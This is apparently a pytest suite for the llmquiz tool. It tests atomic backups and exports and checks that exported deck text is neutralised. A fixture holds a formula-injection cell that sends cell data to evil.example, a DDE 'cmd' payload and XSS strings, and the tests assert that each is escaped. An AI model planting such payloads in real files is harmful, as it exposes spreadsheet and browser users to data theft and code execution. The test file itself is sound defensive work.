"""Files written safely (backup, export) and exports that carry deck text as inert data.

A write goes to a fresh `mkstemp` file beside the target and replaces it atomically; a target that
is not a regular file is refused; a failure (a full disk, simulated and real) is one sentence with a
non-zero exit, and the previous file is left exactly as it was.
"""

from __future__ import annotations

import csv
import errno
import io
import os
import re
import subprocess
import sys
from pathlib import Path

import pytest
from typer.testing import CliRunner

from llmquiz import export, outfile
from llmquiz.card import Card, KeyPoint
from llmquiz.cli import app
from llmquiz.errors import OutputError
from llmquiz.store import Store

from .conftest import ROOT, env_for_subprocess
from .test_store import T0, make_review

runner = CliRunner()


def flat(text: str) -> str:
    """Terminal output with Rich's line wrapping undone."""
    return " ".join(text.split())


@pytest.fixture
def progress() -> None:
    with Store.open() as store:
        store.record(make_review("zz-capital", T0))


def _no_temp_left(folder: Path) -> bool:
    return not [p for p in folder.iterdir() if p.name.endswith(".tmp")]


def test_a_backup_replaces_the_old_file_only_when_complete(tmp_path: Path, progress: None) -> None:
    target = tmp_path / "b.json"
    target.write_text("old backup")
    assert runner.invoke(app, ["backup", "-o", str(target)]).exit_code == 0
    assert target.read_text().startswith('{"format": "llmquiz-backup"') and _no_temp_left(tmp_path)


@pytest.mark.parametrize("command", [["backup"], ["export", "--format", "csv"], ["export", "--format", "anki"]])
def test_a_full_disk_leaves_the_previous_file_intact(tmp_path: Path, monkeypatch: pytest.MonkeyPatch,
                                                     progress: None, command: list[str]) -> None:
    target = tmp_path / "out"
    target.write_bytes(b"the previous file")

    def full(fd: int) -> None:
        raise OSError(errno.ENOSPC, os.strerror(errno.ENOSPC))

    monkeypatch.setattr(os, "fsync", full)  # the data reaches the disk at fsync: that is where ENOSPC lands
    result = runner.invoke(app, [*command, "-o", str(target)])
    assert result.exit_code == 1, result.output
    assert "the disk is full" in flat(result.output) and "the previous file is unchanged" in flat(result.output)
    assert target.read_bytes() == b"the previous file" and _no_temp_left(tmp_path)


def test_a_write_error_midway_is_reported_and_cleaned_up(tmp_path: Path) -> None:
    target = tmp_path / "x.csv"
    with pytest.raises(OutputError, match=r"cannot write .*x.csv: the disk is full .* nothing was written"), \
            outfile.open_out(target) as f:
        f.write("a,b\n")
        raise OSError(errno.ENOSPC, "No space left on device")
    assert not target.exists() and _no_temp_left(tmp_path)


@pytest.mark.parametrize("device", ["/dev/full", "/dev/null"])
def test_a_device_is_refused_not_replaced(device: str, progress: None) -> None:
    if not os.path.exists(device):
        pytest.skip(f"no {device} here")
    before = os.stat(device)
    for command in (["backup", "-o", device], ["export", "-f", "csv", "-o", device]):
        result = runner.invoke(app, command)
        assert result.exit_code == 1 and "is not a regular file" in flat(result.output)
    after = os.stat(device)
    assert (after.st_mode, after.st_rdev) == (before.st_mode, before.st_rdev)  # still the device


def test_a_folder_and_a_dangling_symlink_are_refused(tmp_path: Path) -> None:
    with pytest.raises(OutputError, match="not a regular file"):
        outfile.checked_target(tmp_path)
    (tmp_path / "link").symlink_to(tmp_path / "nowhere" / "x")
    with pytest.raises(OutputError, match=r"symlink .* does not exist"):
        outfile.checked_target(tmp_path / "link")
    with pytest.raises(OutputError, match=r"folder .* does not exist"):
        outfile.checked_target(tmp_path / "no-such-folder" / "x.json")


def test_a_planted_symlink_at_the_old_temporary_name_is_not_followed(tmp_path: Path, progress: None) -> None:
    victim = tmp_path / "victim"
    victim.write_text("precious")
    target = tmp_path / "b.json"
    for pid in range(os.getpid() - 5, os.getpid() + 5):
        (tmp_path / f".b.json.{pid}.tmp").symlink_to(victim)
    assert runner.invoke(app, ["backup", "-o", str(target)]).exit_code == 0
    assert victim.read_text() == "precious" and target.is_file() and not target.is_symlink()


def test_a_symlink_to_a_file_writes_that_file(tmp_path: Path, progress: None) -> None:
    real = tmp_path / "real.json"
    real.write_text("old")
    (tmp_path / "link.json").symlink_to(real)
    assert runner.invoke(app, ["backup", "-o", str(tmp_path / "link.json")]).exit_code == 0
    assert (tmp_path / "link.json").is_symlink() and real.read_text().startswith('{"format"')


def test_an_existing_file_keeps_its_permissions(tmp_path: Path, mini_decks: Path) -> None:
    target = tmp_path / "cards.csv"
    target.write_text("old")
    target.chmod(0o640)
    assert runner.invoke(app, ["export", "-f", "csv", "-o", str(target), "--decks", str(mini_decks)]).exit_code == 0
    assert target.stat().st_mode & 0o777 == 0o640


def test_dash_is_standard_output_and_the_status_line_goes_to_stderr(progress: None, mini_decks: Path) -> None:
    result = runner.invoke(app, ["backup", "-o", "-"])
    assert result.exit_code == 0 and result.stdout.startswith('{"format": "llmquiz-backup"')
    assert "Saved 1 reviews of 1 cards to standard output." in flat(result.stderr)
    assert "Saved" not in result.stdout
    csv_out = runner.invoke(app, ["export", "-f", "csv", "-o", "-", "--topic", "zz-testing",
                                  "--decks", str(mini_decks)])
    assert csv_out.exit_code == 0 and csv_out.stdout.startswith("id,topic,difficulty")
    assert "Wrote 2 cards to standard output." in flat(csv_out.stderr)


@pytest.mark.skipif(not os.path.exists("/dev/full"), reason="needs /dev/full")
def test_standard_output_on_a_full_device_is_an_error(llmquiz_home: Path) -> None:
    with open("/dev/full", "wb") as full:
        proc = subprocess.run([sys.executable, "-m", "llmquiz", "export", "-f", "csv", "-o", "-"], stdout=full,
                              stderr=subprocess.PIPE, env=env_for_subprocess(llmquiz_home), cwd=ROOT, timeout=120)
    assert proc.returncode == 1
    assert "cannot write to standard output: the disk is full" in flat(proc.stderr.decode())
    assert b"Traceback" not in proc.stderr


# -- exports carry deck text as data ----------------------------------------------------------------

HOSTILE = Card(id="evil", topic="zz-testing", difficulty=1,
               question='=HYPERLINK("http://evil.example/?"&A1, "click")',
               answer="<script>alert(1)</script> and [a link](javascript:alert(1))",
               key_points=(KeyPoint("+cmd|' /C calc'!A0", ("x",)), KeyPoint("@SUM(1+1)", ("y",))),
               tags=("-2+3",))


def test_csv_cells_a_spreadsheet_would_evaluate_are_neutralised() -> None:
    [row] = list(csv.DictReader(io.StringIO(export.to_csv([HOSTILE]))))
    assert row["question"] == "'" + HOSTILE.question
    assert row["key_points"] == "'+cmd|' /C calc'!A0; @SUM(1+1)"
    assert row["tags"] == "'-2+3"
    assert row["answer"] == HOSTILE.answer  # starts with '<': nothing to neutralise
    for start in ("=", "+", "-", "@", "\t", "\r"):
        assert export.csv_cell(start + "1").startswith("'")


def test_markdown_export_escapes_html_and_links() -> None:
    md = export.to_markdown([HOSTILE], "<b>title</b>")
    assert "<script>" not in md and "&lt;script&gt;alert(1)&lt;/script&gt;" in md
    assert "\\[a link\\](javascript:" in md  # escaped brackets: text, not a link
    assert not re.search(r"(?<!\\)\]\(", md)
    assert md.startswith("# &lt;b&gt;title&lt;/b&gt;")


def test_export_to_a_file_through_the_cli_is_neutralised(tmp_path: Path) -> None:
    deck = tmp_path / "decks"
    deck.mkdir()
    (deck / "evil.yaml").write_text(
        "topic: zz-evil\ntitle: Evil\ndescription: d\ncards:\n  - id: evil-one\n"
        "    question: '=1+1 is two?'\n    answer: <img src=x onerror=alert(1)>\n"
        "    key_points:\n      - point: '@two'\n        aliases: [two]\n    difficulty: 1\n")
    out = tmp_path / "cards.csv"
    result = runner.invoke(app, ["export", "-f", "csv", "-o", str(out), "--topic", "zz-evil", "--decks", str(deck)])
    assert result.exit_code == 0, result.output
    [row] = list(csv.DictReader(out.open(newline="")))
    assert row["question"] == "'=1+1 is two?" and row["key_points"] == "'@two"
    md = tmp_path / "cards.md"
    assert runner.invoke(app, ["export", "-f", "markdown", "-o", str(md), "--topic", "zz-evil",
                               "--decks", str(deck)]).exit_code == 0
    assert "<img" not in md.read_text() and "&lt;img src=x onerror=alert(1)&gt;" in md.read_text()


def test_settings_are_saved_without_following_a_planted_temporary_file(llmquiz_home: Path) -> None:
    from llmquiz import config

    path = config.config_path()
    path.parent.mkdir(parents=True, exist_ok=True)
    victim = llmquiz_home / "victim"
    victim.write_text("precious")
    for pid in range(os.getpid() - 5, os.getpid() + 5):  # the names the settings file once used
        (path.parent / f"config.{pid}.tmp").symlink_to(victim)
    assert runner.invoke(app, ["config", "set", "new_per_day", "7"]).exit_code == 0
    assert victim.read_text() == "precious" and config.load().new_per_day == 7
    assert not [p for p in path.parent.iterdir() if p.name.startswith(".config.toml.")]


def test_a_failed_write_of_llmquiz_s_own_file_leaves_the_old_one_and_no_temporary(tmp_path: Path) -> None:
    target = tmp_path / "cache.bin"
    target.write_bytes(b"old")

    def half(f: object) -> None:
        f.write(b"new, half")  # type: ignore[attr-defined]
        raise OSError(errno.ENOSPC, "No space left on device")

    with pytest.raises(OSError):
        outfile.replace_file(target, half)
    assert target.read_bytes() == b"old" and [p.name for p in tmp_path.iterdir()] == ["cache.bin"]
    outfile.replace_file(target, lambda f: f.write(b"new"))
    assert target.read_bytes() == b"new" and [p.name for p in tmp_path.iterdir()] == ["cache.bin"]
